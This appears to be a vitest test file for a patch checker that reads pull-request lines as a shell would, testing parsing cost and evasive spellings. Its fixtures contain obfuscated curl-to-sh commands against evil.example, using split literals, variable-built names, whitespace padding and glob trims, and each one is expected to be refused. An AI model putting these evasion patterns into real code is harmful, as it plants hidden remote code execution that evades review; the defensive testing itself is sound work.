import { describe, expect, it } from 'vitest';
import { checkPatch } from '../../shared/analysis/index.js';
import { formattedLiterals } from '../../shared/analysis/literal-formatting.js';

/**
 * Attack pass 9b on the patch check's shell reading (`shared/analysis/shell-reading.ts`) and the patterns that read
 * it: what a fix PR's added lines cost to read (they are attacker-controlled, up to the check's 20 KB), and spellings
 * of a download run the reading missed. Each test failed on the code before its fix: a cost test by the test's
 * timeout (the reading took seconds to hours), a spelling by being accepted.
 */

/** A patch adding `lines` to a Python file after one context line. */
function patchAdding(lines: readonly string[]): string {
  return ['--- a/src/setup_env.py', '+++ b/src/setup_env.py', `@@ -1,1 +1,${lines.length + 1} @@`, ' import os', ...lines.map((line) => `+${line}`), ''].join('\n');
}

describe('attack pass 9b: the cost of reading a patch as a shell would', () => {
  it('reads a wrapper given many numeric assignments in linear time (finding 1)', () => {
    // Prepare: `1=1` is both an assignment and a number to `sudo`'s arguments; 30 of them were 2^30 ways to try.
    const line = `os.system('curl -fsSL evil.example/i | sudo ${'1=1 '.repeat(30)}!')`;

    // Act
    const result = checkPatch(patchAdding([line]));

    // Assert: read in time; refused since the review of session 32, as a download piped into a program (`sudo … !`)
    // not known to only read data.
    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
  });
});

describe('attack pass 9b: the cost of reading unknown commands', () => {
  it('reads a line of many unknown commands in command substitutions in linear time (finding 2)', () => {
    // Prepare: each `$(` starts a command, each `$x` an unknown one; with no pipe, every start tried every split.
    const line = `os.system('${'$($x '.repeat(2500)}')`;

    // Act
    const result = checkPatch(patchAdding([line]));

    // Assert: read whole in time, then refused for its length alone (a line past the approval's view, attack pass 12)
    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('over the limit of 500') });
  });
});

describe('the review of session 32: the cost of reading literals side by side', () => {
  // Joined literals (`'cu' 'rl'`, `'cu' + 'rl'`) were read with two runs of blanks around an optional `+`: without the
  // `+`, each blank could be either run's, so from every quote a format that then failed to follow tried 2^16 ways.
  it('reads a line of many quoted words in linear time', () => {
    // Prepare: a tar given 4,900 quoted arguments, just under the check's 20 KB line (26 s to read on 5e1bbf6)
    const line = `os.system("curl a.b | tar ${"'x' ".repeat(4900)}")`;

    // Act
    const result = checkPatch(patchAdding([line]));

    // Assert: read in time; refused, since a data reader's stage of more pieces than the check reads (200) is not
    // known to only read data
    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
  });

  it('formats literals side by side in linear time, whatever the line holds', () => {
    const text = `x = ${"'x' ".repeat(20_000)}`;
    expect(formattedLiterals(text, 16_384)).toBe(text);
  });
});

describe('attack pass 9b: what a bounded reading leaves out', () => {
  it('refuses a patch whose variable is longer than the reading holds, not reads it cut (finding 3)', () => {
    // Prepare: the value's last two letters, past the 2,048 characters a value is read to, make `$c"rl"` curl.
    const line = `os.system('c="${' '.repeat(2100)}cu"; $c"rl" -fsSL evil.example/i | sh')`;

    // Act
    const result = checkPatch(patchAdding([line]));

    // Assert
    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('shell-reading-too-large') });
  });

  it('still reads the same patch whole when its value is short', () => {
    // Prepare
    const line = `os.system('c="cu"; $c"rl" -fsSL evil.example/i | sh')`;

    // Act
    const result = checkPatch(patchAdding([line]));

    // Assert
    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
  });
});

describe("attack pass 9b's review: what the bounds let through and what they cost", () => {
  it.each([
    ['a braced variable', '${DL}'],
    ['a command substitution', '$(cat /tmp/dl)'],
    ['a quoted variable', '"$d"'],
  ])('refuses a download by %s pushed away from its URL by blanks (finding 1)', (_, command) => {
    // Prepare: 400 spaces put the pipe past the unknown command's lookahead, and the URL off a review's screen.
    const line = `os.system('${command}${' '.repeat(400)}https://evil.example/i | sh')`;

    // Act
    const result = checkPatch(patchAdding([line]));

    // Assert
    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
  });

  it('reads a replacement whose glob has many stars without trying every way, and refuses what it cannot read (finding 2)', () => {
    // Prepare: `.*?` six times over 200 letters with no `b` to find was minutes before the test's timeout.
    const lines = [`os.system('d=${'a'.repeat(200)}; echo \${d/${'*a'.repeat(6)}*b/}')`];

    // Act
    const result = checkPatch(patchAdding(lines));

    // Assert
    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('shell-reading-too-large') });
  });

  it('still reads the short globs real scripts trim with', () => {
    // Prepare: `${f%%.*}` and `${u#*//}` on a short value; the URL is built by them.
    const line = `os.system('u=xhttps://evil.example/i; f=curl.exe; \${f%%.*} -fsSL \${u#x} | sh')`;

    // Act
    const result = checkPatch(patchAdding([line]));

    // Assert
    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
  });

  it('refuses a reading that grows by more than 16 KB rather than read it at a cost that grows with its square (finding 3)', () => {
    // Prepare: a value of 2,000 characters read 9 times is 18 KB more than the line.
    const lines = [`x='${'-'.repeat(2000)}'`, `os.system('${'$x'.repeat(9)}')`];

    // Act
    const result = checkPatch(patchAdding(lines));

    // Assert
    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('shell-reading-too-large') });
  });
});
